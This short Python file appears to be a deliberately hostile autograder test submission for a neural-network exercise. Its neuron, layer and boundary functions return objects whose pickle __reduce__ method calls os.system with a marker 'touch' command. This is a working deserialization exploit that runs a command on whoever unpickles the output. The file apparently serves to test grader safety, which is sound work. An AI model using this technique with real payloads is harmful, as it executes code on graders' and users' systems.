# Arrays of objects, whose pickles would run a command in whoever opens them.
#
# answers: wrong
# points: 0
# 1a: type
# 1b: type
# 1d: type
# %% before solve-1a
import os
class Bomb:
    def __reduce__(self):
        return (os.system, ("touch left-by-a-hand-in",))
    def __float__(self):
        return 1.0
# %% instead of solve-1a
def neuron(x, w, b, f):
    return np.array([Bomb()] * max(1, x.ndim), dtype=object)
# %% instead of solve-1b
def layer(X, W, b):
    return [[Bomb()] * len(b)] * len(X)
# %% instead of solve-1d
def boundary(w, b):
    return np.array([Bomb(), Bomb()]), np.array([1.0, None])
